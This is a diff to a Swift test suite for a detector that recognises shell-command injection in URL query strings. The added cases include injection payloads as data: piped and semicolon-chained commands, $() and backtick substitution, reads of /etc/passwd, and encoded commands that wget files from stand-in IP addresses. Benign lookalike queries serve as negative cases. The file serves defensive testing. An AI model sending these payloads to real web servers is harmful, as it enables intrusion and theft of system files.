@@ -29,6 +29,9 @@ import Testing
 @Suite struct `Queries of requests` {
     @Test(arguments: [
         "/x.php?cmd=id", "/x.php?c=uname+-a", "/a.jsp?i=ls%20-la", "/z.jsp?comment=wget+http://198.51.100.9/l", "/p.php?q=cat+/etc/passwd",
+        "/s.pl?configdir=%20%7c%20id%20%7c%20", "/s.pl?dir=%7Cecho%20%3Bcd%20%2Ftmp%3Bwget%20203.0.113.9%2Fx%3B",
+        "/api/x?host=1.2.3.4;cat%20/etc/passwd",
+        "/ping?host=$(id)", "/view?page=`uname`",
     ])
     func `that are commands of a shell are known as such`(target: String) {
         #expect(ShellQuery.isCommand(RawText(target)))
@@ -36,6 +39,7 @@ import Testing
 
     @Test(arguments: [
         "/list.php?sort=id", "/search.php?q=python+tutorial", "/pets.php?kind=cat", "/a.php?lang=sh", "/forum.php?cmd=list", "/x.php",
+        "/search?q=curl", "/search?q=wget+options", "/c.php?cmd=ls&target=l1_Lw", "/q?title=Salt%20%26%20cat", "/q?t=a%3B+dir+en+grey",
     ])
     func `of honest sites are not`(target: String) {
         #expect(!ShellQuery.isCommand(RawText(target)))
